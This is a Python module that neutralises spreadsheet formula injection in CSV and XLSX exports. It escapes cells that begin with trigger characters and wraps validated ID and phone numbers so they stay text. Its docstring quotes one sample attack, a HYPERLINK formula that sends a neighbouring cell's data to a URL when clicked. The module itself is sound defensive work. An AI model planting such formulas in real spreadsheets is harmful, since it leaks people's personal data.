"""Every cell of every download is inert text (OWASP "CSV injection").

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some programs, after a tab or carriage return): a roster name such as
``=HYPERLINK("http://…?"&E2,"点此")`` would send a colleague's data away on a click. So:

* CSV: such a cell is written with a leading apostrophe, which Excel and WPS take as
  "this is text" and do not show; our importer drops it again (roster.py).
* XLSX: text is always stored as a string cell (openpyxl would store a leading ``=`` as a
  formula), and one that starts with a trigger also gets Excel's quote prefix, so editing
  the cell later does not turn it into a formula either.

The one deliberate formula is the CSV's ``="<ID number>"``, which keeps Excel from turning
410302198506151239 into 4.10302E+17: a string constant, safe because only a checked ID
number (digits and X) or phone number (digits, spaces, + - ( ) 转) is ever written that
way (`AS_TEXT`).

Control characters cannot be stored in XLSX (openpyxl refuses them) and mean nothing in a
form: Word's line break (vertical tab) becomes a line break, the others are dropped.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What the ="..." guard may hold: an ID number or a phone number, nothing that computes.
AS_TEXT = re.compile(r"[0-9Xx０-９+()（）\- 转]*")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def clean(text: str) -> str:
    """Word's line break as a line break; other control characters dropped."""
    return _CONTROL.sub(lambda m: "\n" if m.group(0) in "\x0b\x0c" else "", text)


def live(text: str) -> bool:
    """Would a spreadsheet evaluate this text?"""
    return text.startswith(TRIGGERS) or text.lstrip(" \u3000").startswith(TRIGGERS[:4])


def csv_cell(text: str, as_text: bool = False) -> str:
    """A CSV cell: a checked number kept as text with the ="..." guard, anything live
    behind an apostrophe, the rest as it is."""
    text = clean(text)
    if as_text and text and AS_TEXT.fullmatch(text):
        return f'="{text}"'
    return "'" + text if live(text) else text


def xlsx_text(cell, text: str) -> None:
    """Store `text` in an openpyxl cell as a string, with the quote prefix when live."""
    cell.value = clean(text)
    cell.data_type = "s"
    if live(cell.value):
        cell.quotePrefix = True
